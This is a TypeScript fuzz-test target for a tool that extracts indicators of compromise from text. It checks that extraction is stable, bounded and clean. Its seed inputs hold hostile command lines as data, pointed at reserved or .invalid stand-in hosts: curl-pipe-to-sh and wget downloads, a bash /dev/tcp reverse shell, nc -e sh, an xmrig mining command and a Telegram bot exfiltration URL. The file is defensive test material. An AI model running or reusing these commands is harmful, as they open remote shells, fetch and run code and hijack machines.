import { collectWithin, defaultIndicatorBounds } from '../../src/indicators/collect.ts';
import { madeUpSshKey } from '../../src/testing/ssh-key.ts';
import { madeUpWallet } from '../../src/testing/wallet.ts';
import { type FuzzTarget, invariant } from './target.ts';

/** Small enough for an input to reach them. */
const bounds = { ...defaultIndicatorBounds, ofKind: 40, all: 60, sums: 200 };

/** Indicators: never throws, clean values within bounds, the same wherever a text stands, the same each time. */
export const indicatorTarget: FuzzTarget = {
  name: 'indicators',
  seeds: () =>
    [
      'curl http:\\\\192.0.2.1\\x.sh | sh; wget -qO- http://u:p@[2001:db8::1]:80/a?u=http://3221226028/\n',
      'bash -i >& /dev/tcp/c2.invalid/4444; nc -e sh 0300.0.2.44 9; ssh a@b.invalid; s.connect(("192.0.2.9", 80))\n',
      `xmrig -o stratum+tcp://pool.invalid:3333 -u${madeUpWallet('fuzz')} {"url":"pool.invalid:3333"}\n`,
      `echo ${madeUpSshKey('fuzz')} bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4 abcdefghij234567.onion:80\n`,
      `https://api.telegram.org/bot123456789:AA${'x'.repeat(33)}/sendMessage?chat_id=-100123456 chat_id: 1234567\n`,
      'eth wallet 0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed 1.3.6.1 libx-1.2.3.4 10.0.0.1:80 [::1]:80 fe80::1:2:3\n',
    ].map((text) => Buffer.from(text)),
  run(input) {
    const text = new TextDecoder().decode(input);
    const here = collectWithin([{ text, where: {} }], bounds);
    const again = collectWithin([{ text, where: {} }], bounds);
    invariant(JSON.stringify(here) === JSON.stringify(again), 'not the same twice');
    invariant(here.indicators.length <= bounds.all, 'more indicators than allowed');
    for (const { value, port, where } of here.indicators) {
      invariant(value !== '' && !/[\s\u0000-\u001f\u007f]/.test(value), `not a clean value: ${JSON.stringify(value)}`);
      invariant(value.length <= 2200, 'a value longer than any reader reads');
      invariant(port === undefined || (Number.isInteger(port) && port >= 1 && port <= 65_535), `no port: ${port}`);
      invariant(where.length >= 1 && where.length <= 20, 'places out of bounds');
    }
    const moved = collectWithin([{ text: `\n${text}\n`, where: {} }], bounds);
    const named = (all: typeof here) => JSON.stringify(all.indicators.map(({ where: _, ...rest }) => rest));
    invariant(named(moved) === named(here), 'a line break before and after changes what is found');
  },
};
